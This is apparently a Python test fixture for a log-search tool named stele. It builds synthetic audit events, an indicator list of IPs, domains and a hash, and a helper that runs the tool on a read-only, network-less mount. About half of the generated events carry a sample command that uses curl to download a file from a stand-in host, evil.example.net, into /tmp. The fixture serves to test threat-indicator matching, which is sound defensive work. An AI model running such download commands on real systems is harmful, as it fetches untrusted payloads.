"""Events of a few weeks for the tests of copies, and the read-only mount they are opened on."""
import hashlib
import json
import os
import random
import subprocess

from stele_tool import BIN, LONG_SECONDS, Result, expect

FROM = "2026-10-01"
TO = "2026-11-05"
DAYS = 35
SESSIONS = [f"5b8e7a52-0000-4000-8000-{i:012}" for i in range(40)]
DOMAINS = ["evil.example.net", "cdn.example.org", "good.example.com"]


def events(count, seed, first=0):
    """Lines within FROM and TO, of all kinds of fields, in no order of time."""
    dice = random.Random(seed)
    lines = []
    for i in range(first, first + count):
        second = dice.randrange(DAYS * 86400)
        day = second // 86400
        date = f"2026-10-{day + 1:02}" if day < 31 else f"2026-11-{day - 30:02}"
        clock = f"{second // 3600 % 24:02}:{second // 60 % 60:02}:{second % 60:02}"
        event = {"event": dice.choice(["user.login", "session.start", "session.command", "db.session"]),
                 "uid": f"00000000-0000-4000-8000-{i:012}", "code": dice.choice(["T1000I", "T1000W"]),
                 "time": f"{date}T{clock}.{dice.randrange(1000):03}Z",
                 "user": dice.choice(["alice", "bob", "carol@example.com", "svc-ci"]),
                 "addr.remote": f"203.0.113.{dice.randrange(60)}:{dice.randrange(1024, 60000)}",
                 "sid": dice.choice(SESSIONS), "cluster_name": "c", "pid": dice.randrange(100000),
                 "success": dice.random() < 0.8, "score": dice.randrange(900) / 10}
        if dice.random() < 0.5:
            event["command"] = f"curl https://{dice.choice(DOMAINS)}/f{dice.randrange(900)} -o /tmp/x"
        if dice.random() < 0.2:
            event["identity"] = {"user": "alice", "roles": ["admin", dice.choice(["a", "b"])]}
        if dice.random() < 0.1:
            event["sha256"] = hashlib.sha256(b"%d" % dice.randrange(50)).hexdigest()
        lines.append(json.dumps(event).encode())
    return lines


INDICATORS = "\n".join(["203.0.113.7", "203.0.113.32/29", "evil.example.net", "198.51.100.9",
                        "https://cdn.example.org/f77", hashlib.sha256(b"7").hexdigest(),
                        "not.there.example"]) + "\n"

READ_ONLY = ('mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" && cd "$1" && '
             '! touch "$1/touched" 2>/dev/null && shift && exec "$@"')


def can_mount():
    """May this user make a read-only mount of its own?"""
    done = subprocess.run(["unshare", "-rmn", "true"], capture_output=True)
    return done.returncode == 0


def locked(directory, *words):
    """Runs the tool with the directory on a read-only mount and no network at all; both are looked
    at first. Without the right to mount, it is a directory that nobody may write to."""
    tool = [os.path.join(BIN, "stele"), *words]
    if can_mount():
        words = ["unshare", "-rmn", "sh", "-c", READ_ONLY, "sh", directory, *tool]
    else:
        expect(os.getuid() != 0, "root without the right to mount: nothing is read-only to it")
        os.chmod(directory, 0o500)
        words = tool
    try:
        return Result(subprocess.run(words, capture_output=True, timeout=LONG_SECONDS, cwd=directory))
    finally:
        os.chmod(directory, 0o700)
